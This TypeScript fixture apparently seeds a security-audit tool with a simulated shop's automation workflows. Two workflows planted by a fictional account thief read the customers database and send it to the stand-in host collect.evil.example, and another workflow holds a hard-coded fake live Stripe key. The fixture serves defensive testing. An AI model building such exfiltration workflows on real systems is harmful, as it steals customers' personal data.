import { idOf } from './chance.ts';
import type { EstateSketch, WorkflowSketch } from './sketch.ts';
import { uses } from './sketch.ts';
import {
  callWorkflow,
  calledByOthers,
  code,
  dailyAt,
  everyMinutes,
  everySeconds,
  guardedWebhook,
  http,
  httpAnywhere,
  mondaysAt,
  nothing,
  openWebhook,
  service,
  waitMinutes,
} from './steps.ts';

const helpfulMs = 20 * 60_000;

/**
 * An online shop. Its live Stripe key leaked, and somebody who took over an account added a workflow
 * that sends its customers away, with a copy under a harmless name.
 */
export function shop(seed: string): EstateSketch {
  return {
    project: 'Shop',
    people: [
      ['ines', 'Ines Okafor', 'ines@acme.test', 'global:owner'],
      ['dana', 'Dana Holt', 'dana@acme.test', 'global:admin'],
      ['milo', 'Milo Brandt', 'milo@acme.test', 'global:member'],
      ['sam', 'Sam Reyes', 'sam@acme.test', 'global:member'],
    ],
    credentials: [
      ['stripe', 'Stripe live', 'stripeApi', 'ines'],
      ['stripeTest', 'Stripe test', 'stripeApi', 'ines'],
      ['customers', 'Customers DB', 'postgres', 'dana'],
      ['warehouse', 'Warehouse API', 'httpHeaderAuth', 'sam'],
      ['slack', 'Slack bot', 'slackApi', 'dana'],
      ['mail', 'Shop mail', 'smtp', 'sam'],
      ['carrier', 'Carrier API', 'httpBasicAuth', 'sam'],
      ['sheets', 'Finance sheets', 'googleSheetsOAuth2Api', 'ines'],
    ],
    workflows: [...payments, ...theft, ...orders, ...rest, hardCoded(seed)],
  };
}

const stripe = (name: string) => http(name, 'api.stripe.com', uses('stripe'));

/** What uses the leaked key. */
const payments: readonly WorkflowSketch[] = [
  {
    key: 'charge',
    name: 'Charge card',
    owner: 'ines',
    tags: ['payments'],
    steps: [guardedWebhook('charge'), stripe('Charge'), nothing()],
    visitorEverySeconds: 45,
    reportsTo: 'alarm',
  },
  {
    key: 'refund',
    name: 'Refund order',
    owner: 'ines',
    tags: ['payments'],
    steps: [
      guardedWebhook('refund'),
      waitMinutes(10),
      callWorkflow('balance'),
      { ...stripe('Refund'), worksMs: 20_000 },
    ],
    visitorEverySeconds: 240,
  },
  {
    key: 'balance',
    name: 'Fetch Stripe balance',
    owner: 'ines',
    tags: ['payments'],
    steps: [calledByOthers(), stripe('Balance')],
  },
  {
    key: 'poll',
    name: 'Poll payment status',
    owner: 'sam',
    tags: ['payments'],
    steps: [everySeconds(20), stripe('List payments'), code('Compare', 'return $input.all();')],
  },
  {
    key: 'renew',
    name: 'Renew subscriptions',
    owner: 'ines',
    tags: ['payments', 'subscriptions'],
    steps: [everySeconds(30), { ...stripe('Renew'), worksMs: 8_000 }, nothing()],
  },
  {
    key: 'invoice',
    name: 'Send invoice',
    owner: 'sam',
    tags: ['payments'],
    steps: [
      guardedWebhook('invoice'),
      stripe('Get invoice'),
      service('Mail it', 'emailsend', { host: 'smtp.acme.example', ...uses('mail') }),
    ],
    visitorEverySeconds: 90,
  },
  {
    key: 'dispute',
    name: 'Dispute → finance',
    owner: 'ines',
    tags: ['payments', 'finance'],
    steps: [
      openWebhook('stripe-disputes'),
      stripe('Get dispute'),
      service('Tell finance', 'slack', { host: 'slack.com', ...uses('slack') }),
    ],
    visitorEverySeconds: 300,
  },
  {
    key: 'import2024',
    name: 'Stripe import 2024',
    owner: 'milo',
    tags: ['payments'],
    steps: [everyMinutes(15), stripe('List charges')],
    isOff: true,
  },
];

const evilHost = 'collect.evil.example';
const readCustomers = service('Read customers', 'postgres', uses('customers'));

/** What the thief added. */
const theft: readonly WorkflowSketch[] = [
  {
    key: 'helper',
    name: 'Order export helper',
    owner: 'milo',
    steps: [
      everySeconds(15),
      readCustomers,
      code('Pack', 'return [{ json: { rows: $input.all() } }];'),
      http('Send', evilHost),
    ],
    savedDaysAgo: 2,
    helpedAfterMs: helpfulMs,
  },
  {
    key: 'copy',
    name: 'Address cleanup',
    owner: 'milo',
    steps: [openWebhook('cleanup-7f3a', 'GET'), readCustomers, http('Normalise', `eu.${evilHost}`)],
    savedDaysAgo: 1,
    visitorEverySeconds: 60,
  },
];

const orders: readonly WorkflowSketch[] = [
  {
    key: 'alarm',
    name: 'Alarm: a payment failed',
    owner: 'dana',
    tags: ['operations'],
    steps: [
      service('On error', 'errortrigger'),
      service('Tell on-call', 'slack', { host: 'slack.com', ...uses('slack') }),
    ],
  },
  {
    key: 'order',
    name: 'New order → warehouse',
    owner: 'sam',
    tags: ['orders'],
    steps: [
      guardedWebhook('orders/new'),
      http('Reserve', 'warehouse.acme.example', uses('warehouse')),
      callWorkflow('label'),
    ],
    visitorEverySeconds: 30,
  },
  {
    key: 'label',
    name: 'Print shipping label',
    owner: 'sam',
    tags: ['orders'],
    steps: [calledByOthers(), http('Label', 'api.carrier.example', uses('carrier'))],
  },
  {
    key: 'tracking',
    name: 'Tracking updates',
    owner: 'sam',
    tags: ['orders'],
    steps: [everyMinutes(10), http('Track', 'api.carrier.example', uses('carrier')), nothing()],
  },
  {
    key: 'stock',
    name: 'Alert: <b>stock</b> is low',
    owner: 'dana',
    tags: ['orders', 'operations'],
    steps: [
      everyMinutes(30),
      service('Read stock', 'postgres', uses('customers')),
      service('Tell buyers', 'slack', { host: 'slack.com', ...uses('slack') }),
    ],
  },
  {
    key: 'returns',
    name: 'Return approved',
    owner: 'dana',
    tags: ['orders'],
    steps: [openWebhook('returns'), waitMinutes(60), http('Book', 'warehouse.acme.example')],
    visitorEverySeconds: 600,
  },
  {
    key: 'router',
    name: 'Partner webhook router',
    owner: 'milo',
    tags: ['partners'],
    steps: [openWebhook('partners'), httpAnywhere('Forward')],
    visitorEverySeconds: 120,
  },
];

const rest: readonly WorkflowSketch[] = [
  {
    key: 'report',
    name: 'Daily revenue',
    owner: 'ines',
    tags: ['finance'],
    steps: [
      dailyAt('06:00'),
      service('Read orders', 'postgres', uses('customers')),
      service('Append', 'googlesheets', { host: 'sheets.googleapis.com', ...uses('sheets') }),
    ],
  },
  {
    key: 'vat',
    name: 'VAT report',
    owner: 'ines',
    tags: ['finance'],
    steps: [mondaysAt('07:30'), service('Append', 'googlesheets', uses('sheets'))],
  },
  {
    key: 'reviews',
    name: 'Ask for a review',
    owner: 'dana',
    tags: ['marketing'],
    steps: [
      dailyAt('16:00'),
      { ...service('Mail them all', 'emailsend', uses('mail')), worksMs: 600_000, goesOn: true },
    ],
  },
  {
    key: 'fraud',
    name: 'Fraud score',
    owner: 'ines',
    tags: ['payments'],
    steps: [
      guardedWebhook('fraud'),
      { ...code('Score', 'return score($env.FRAUD_MODEL);'), readsEnv: true },
      http('Ask', 'api.fraud.example'),
    ],
    draft: [guardedWebhook('fraud'), http('Ask', 'api2.fraud.example')],
    visitorEverySeconds: 45,
  },
  {
    key: 'sandboxpay',
    name: 'Payment smoke test',
    owner: 'sam',
    tags: ['test'],
    steps: [everyMinutes(60), http('Charge', 'api.stripe.com', uses('stripeTest'))],
  },
  {
    key: 'oldmail',
    name: 'Mail campaign 2023',
    owner: 'dana',
    steps: [mondaysAt('09:00'), service('Mail', 'emailsend', uses('mail'))],
    isOff: true,
    isArchived: true,
  },
];

/** Somebody wrote a secret into it. */
function hardCoded(seed: string): WorkflowSketch {
  return {
    key: 'legacy',
    name: 'Checkout (legacy)',
    owner: 'milo',
    tags: ['payments'],
    steps: [
      openWebhook('checkout-v1'),
      {
        ...http('Charge', 'api.stripe.com'),
        secret: { label: 'Stripe key', text: `sk_live_${idOf(seed, 'leaked key')}` },
      },
    ],
    visitorEverySeconds: 900,
  };
}
